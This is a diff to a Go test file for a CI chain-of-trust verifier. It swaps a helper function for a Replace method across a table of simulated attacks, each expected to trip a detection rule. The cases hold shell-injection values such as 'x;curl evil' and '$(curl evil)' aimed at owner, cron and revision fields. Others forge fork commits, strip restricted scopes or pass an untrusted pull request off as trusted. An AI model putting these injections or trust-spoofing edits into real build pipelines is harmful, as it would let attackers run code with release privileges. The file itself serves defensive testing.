@@ -12,7 +12,7 @@ const evil = "$(curl evil)"
 
 // claims replaces a text in the whole of what the event started.
 func claims(from, to string) func(*chain) {
-	return func(c *chain) { everywhere(c.decision, from, to) }
+	return func(c *chain) { c.decision.Replace(from, to) }
 }
 
 // unrestrict takes the target's restricted scopes away, with which scriptworker
@@ -57,7 +57,7 @@ var claimAttacks = []attack{
 	{
 		name: "an owner that is a command", on: all(hg, began("hg-push")),
 		edit: func(c *chain) {
-			everywhere(c.decision, object(c.decision.Definition, "metadata")["owner"].(string), "x;curl evil")
+			c.decision.Replace(object(c.decision.Definition, "metadata")["owner"].(string), "x;curl evil")
 		},
 		rules: rules(trace.RuleDiffersFromTree),
 	},
@@ -76,7 +76,7 @@ var claimAttacks = []attack{
 		name: "hostile arguments of a cron job", on: knownJob,
 		edit: func(c *chain) {
 			_, method := cronJob(c)
-			everywhere(c.decision, method, "x;curl evil")
+			c.decision.Replace(method, "x;curl evil")
 		},
 		rules: rules(trace.RuleDiffersFromTree, trace.RuleContextUnvouched),
 		why:   "scriptworker takes the arguments from the task under test, and templates put them into a shell unquoted; they are recomputed from `.cron.yml`",
@@ -85,7 +85,7 @@ var claimAttacks = []attack{
 		name: "a cron job that the tree does not have", on: knownJob,
 		edit: func(c *chain) {
 			name, _ := cronJob(c)
-			everywhere(c.decision, name, "mallory")
+			c.decision.Replace(name, "mallory")
 		},
 		rules: rules(trace.RuleContextUnvouched),
 		why:   "scriptworker takes the job from the task under test, and with it the role that it runs with",
@@ -108,7 +108,7 @@ var claimAttacks = []attack{
 		edit: func(c *chain) {
 			description := object(c.decision.Definition, "metadata")["description"].(string)
 			_, id, _ := strings.Cut(description, "/tasks/")
-			everywhere(c.decision, strings.TrimSuffix(id, ")"), evil)
+			c.decision.Replace(strings.TrimSuffix(id, ")"), evil)
 		},
 		rules: rules(trace.RuleContextUnvouched),
 		why:   "scriptworker takes it from the task under test, in any syntax",
@@ -128,7 +128,7 @@ var claimAttacks = []attack{
 	{
 		name: "a pusher that is a command", on: pushed,
 		edit: func(c *chain) {
-			everywhere(c.decision, object(c.decision.Definition, "metadata")["owner"].(string), "x;curl evil")
+			c.decision.Replace(object(c.decision.Definition, "metadata")["owner"].(string), "x;curl evil")
 		},
 		rules: rules(trace.RuleDiffersFromTree, trace.RuleContextUnvouched),
 		why:   "scriptworker takes it from the task under test, in any syntax, and templates put it into a shell",
@@ -136,7 +136,7 @@ var claimAttacks = []attack{
 	{
 		name: "a commit before that is a command", on: pushed,
 		edit: func(c *chain) {
-			everywhere(c.decision, variables(c.decision)["APP_BASE_REV"].(string), evil)
+			c.decision.Replace(variables(c.decision)["APP_BASE_REV"].(string), evil)
 		},
 		rules: rules(trace.RuleContextUnvouched),
 		why:   "scriptworker takes it from the task under test, in any syntax, and templates put it into a shell",
@@ -165,13 +165,13 @@ var claimAttacks = []attack{
 	},
 	{
 		name: "a commit of a fork", on: all(fromGitHub, keyed, inAppNetwork),
-		edit:  func(c *chain) { everywhere(c.decision, c.origin().Revision, c.world.ForkPull.HeadSHA) },
+		edit:  func(c *chain) { c.decision.Replace(c.origin().Revision, c.world.ForkPull.HeadSHA) },
 		rules: rules(trace.RuleRevisionNotInTree),
 	},
 	{
 		name: "a commit of a fork, and no restricted scope", on: all(fromGitHub, keyed, inAppNetwork),
 		edit: func(c *chain) {
-			everywhere(c.decision, c.origin().Revision, c.world.ForkPull.HeadSHA)
+			c.decision.Replace(c.origin().Revision, c.world.ForkPull.HeadSHA)
 			unrestrict(c)
 		},
 		rules: rules(trace.RuleRevisionNotInTree),
@@ -179,7 +179,7 @@ var claimAttacks = []attack{
 	},
 	{
 		name: "a commit of a branch of level 1", on: all(fromGitHub, keyed, inAppNetwork),
-		edit:  func(c *chain) { everywhere(c.decision, c.origin().Revision, c.world.Feature.Head.SHA) },
+		edit:  func(c *chain) { c.decision.Replace(c.origin().Revision, c.world.Feature.Head.SHA) },
 		rules: rules(trace.RuleRevisionNotInTree),
 		why:   "scriptworker is content with a commit of any branch, so that whoever may push a branch builds as main",
 	},
@@ -221,14 +221,14 @@ var claimAttacks = []attack{
 	{
 		name: "a base commit that is a command", on: pulled,
 		edit: func(c *chain) {
-			everywhere(c.decision, variables(c.decision)["APP_BASE_REV"].(string), evil)
+			c.decision.Replace(variables(c.decision)["APP_BASE_REV"].(string), evil)
 		},
 		rules: rules(trace.RuleContextUnvouched),
 		why:   "scriptworker takes it from the task under test, in any syntax, and templates put it into a shell",
 	},
 	{
 		name: "a commit that the pull request does not have", on: pulled,
-		edit:  func(c *chain) { everywhere(c.decision, c.origin().Revision, c.world.App.Main().Head.SHA) },
+		edit:  func(c *chain) { c.decision.Replace(c.origin().Revision, c.world.App.Main().Head.SHA) },
 		rules: rules(trace.RuleRevisionNotInTree),
 		why:   "scriptworker takes the commit from the task under test, so that it may be any of the network",
 	},
@@ -258,8 +258,8 @@ var neither = []attack{
 	{
 		name: "an untrusted pull request that says it is trusted", on: all(pulled, began("github-pull-request-untrusted")),
 		edit: func(c *chain) {
-			everywhere(c.decision, "github-pull-request-untrusted", "github-pull-request")
-			everywhere(c.decision, ":pull-request-untrusted", ":pull-request")
+			c.decision.Replace("github-pull-request-untrusted", "github-pull-request")
+			c.decision.Replace(":pull-request-untrusted", ":pull-request")
 			command(c.decision, func(s string) string { return strings.TrimSuffix(s, "\n") + "--allow-parameter-override\n" })
 		},
 		neither: "the GitHub service decides by who opened a request and records it nowhere; either is a contribution, and without restricted scopes",
@@ -272,7 +272,7 @@ var neither = []attack{
 	{
 		name: "another commit before, of the same syntax", on: pushed,
 		edit: func(c *chain) {
-			everywhere(c.decision, variables(c.decision)["APP_BASE_REV"].(string), strings.Repeat("0", 40))
+			c.decision.Replace(variables(c.decision)["APP_BASE_REV"].(string), strings.Repeat("0", 40))
 		},
 		neither: "the event is recorded nowhere; cot lists what it took from the task ([`task-claimed`](rules/task-claimed.md))",
 	},
@@ -281,8 +281,8 @@ var neither = []attack{
 // claimBranch has a push's decision claim another branch, and the role of that.
 func claimBranch(c *chain, name string) {
 	was := c.origin().Ref
-	everywhere(c.decision, was, "refs/heads/"+name)
-	everywhere(c.decision, ":branch:"+strings.TrimPrefix(was, "refs/heads/"), ":branch:"+name)
+	c.decision.Replace(was, "refs/heads/"+name)
+	c.decision.Replace(":branch:"+strings.TrimPrefix(was, "refs/heads/"), ":branch:"+name)
 }
 
 func inAppNetwork(c *chain) bool { return c.origin().Project == "app" }
